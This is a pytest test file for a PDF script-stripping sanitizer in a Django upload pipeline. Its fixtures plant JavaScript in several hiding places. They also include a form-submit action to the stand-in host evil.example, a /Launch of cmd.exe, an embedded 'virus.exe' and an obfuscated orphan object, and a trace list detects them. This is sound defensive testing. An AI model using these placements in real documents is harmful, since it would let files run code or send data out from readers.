"""PDF files lose what a reader's program would run, and nothing else; clean ones stay as they are."""

import io
from base64 import b64decode
from collections.abc import Callable
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    RectangleObject,
    StreamObject,
    TextStringObject,
)

from splot.documents.intake.attachments import prepare_upload
from splot.documents.intake.pdf_scripts import remove_scripts
from splot.documents.intake.refusals import UnreadableDocument

SCRIPT = "app.alert('hello')"


def pdf(add: Callable[[PdfWriter], Any] = lambda writer: None, **options: Any) -> bytes:
    writer, output = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    add(writer)
    if options:
        writer.encrypt(**options)
    writer.write(output)
    return output.getvalue()


def action(kind: str, **more: Any) -> DictionaryObject:
    made = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in more.items():
        made[NameObject(f"/{key}")] = value
    return made


def script() -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject(SCRIPT))


def open_with(value: Any) -> Callable[[PdfWriter], Any]:
    return lambda writer: writer._root_object.update({NameObject("/OpenAction"): value})


def indirectly(writer: PdfWriter) -> None:
    """The kind of an action stands elsewhere, and so does its script."""
    stream = StreamObject()
    stream.set_data(SCRIPT.encode())
    made = DictionaryObject({NameObject("/S"): writer._add_object(NameObject("/JavaScript"))})
    made[NameObject("/JS")] = writer._add_object(stream)
    open_with(writer._add_object(made))(writer)


def on_page(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): script()})


def on_button(writer: PdfWriter) -> None:
    button = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/Rect"): RectangleObject((0, 0, 50, 50)),
            NameObject("/A"): action("/SubmitForm", F=TextStringObject("https://evil.example")),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(button)])


def as_form(writer: PdfWriter) -> None:
    form = DictionaryObject({NameObject("/XFA"): TextStringObject(f"<script>{SCRIPT}</script>")})
    writer._root_object[NameObject("/AcroForm")] = form


def by_name(writer: PdfWriter) -> None:
    names = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("first"), writer._add_object(script())]
            )
        }
    )
    tree = DictionaryObject({NameObject("/JavaScript"): writer._add_object(names)})
    writer._root_object[NameObject("/Names")] = tree


HOSTILE = {
    "when it is opened": open_with(script()),
    "after another action": open_with(action("/GoTo", Next=ArrayObject([script()]))),
    "elsewhere": indirectly,
    "by its name": by_name,
    "on a page": on_page,
    "on a button": on_button,
    "in a form": as_form,
    "a program": open_with(action("/Launch", F=TextStringObject("cmd.exe"))),
    "a file in it": lambda writer: writer.add_attachment("virus.exe", b"MZ alert"),
}
TRACES = (b"alert", b"JavaScript", b"/SubmitForm", b"/Launch", b"/AA", b"MZ")


@pytest.mark.parametrize("where", HOSTILE)
def test_what_runs_is_taken_out(where: str) -> None:
    hostile = pdf(HOSTILE[where])
    cleaned = b64decode(remove_scripts(hostile, "report.pdf").to_json()["content"] or "")
    assert len(PdfReader(io.BytesIO(cleaned)).pages) == 1
    assert [trace for trace in TRACES if trace in cleaned] == []
    assert remove_scripts(cleaned, "report.pdf").content is None  # nothing is left to take out


def test_control_there_was_something_to_take_out() -> None:
    for hostile in HOSTILE.values():
        assert any(trace in pdf(hostile) for trace in TRACES)


def test_a_clean_file_stays_as_it_is() -> None:
    link = Link(rect=(0, 0, 50, 50), url="https://www.poznan.pl/")
    clean = pdf(lambda writer: writer.add_annotation(0, link))
    assert remove_scripts(clean, "report.pdf").content is None
    assert prepare_upload(io.BytesIO(clean), "report.pdf", len(clean)).content == clean


def test_what_only_a_program_would_find_is_gone_too() -> None:
    """An object that no table names is found by programs that mend broken files."""
    lost = b"\n9 0 obj\n<</S /J#61vaScript /JS (alert)>>\nendobj\n"
    head, __, tail = pdf().partition(b"startxref")
    cleaned = remove_scripts(head + lost + b"startxref" + tail, "report.pdf").content
    assert cleaned is not None
    assert b"alert" not in cleaned


def test_a_file_that_opens_without_a_password_is_looked_through() -> None:
    hostile = pdf(HOSTILE["when it is opened"], user_password="", owner_password="secret")
    cleaned = remove_scripts(hostile, "report.pdf").content
    assert cleaned is not None
    assert b"JavaScript" not in cleaned


def test_what_cannot_be_looked_through_is_refused_with_the_reason() -> None:
    locked = pdf(user_password="secret")
    with pytest.raises(UnreadableDocument, match="locked with a password"):
        remove_scripts(locked, "report.pdf")
    broken = b"%PDF-1.7\n%%EOF"
    with pytest.raises(ValidationError, match="cannot be looked through for scripts"):
        prepare_upload(io.BytesIO(broken), "report.pdf", len(broken))


def test_an_upload_is_kept_without_its_script() -> None:
    hostile = pdf(HOSTILE["by its name"])
    kept = prepare_upload(io.BytesIO(hostile), "report.pdf", len(hostile)).content
    assert kept.startswith(b"%PDF-")
    assert b"alert" not in kept
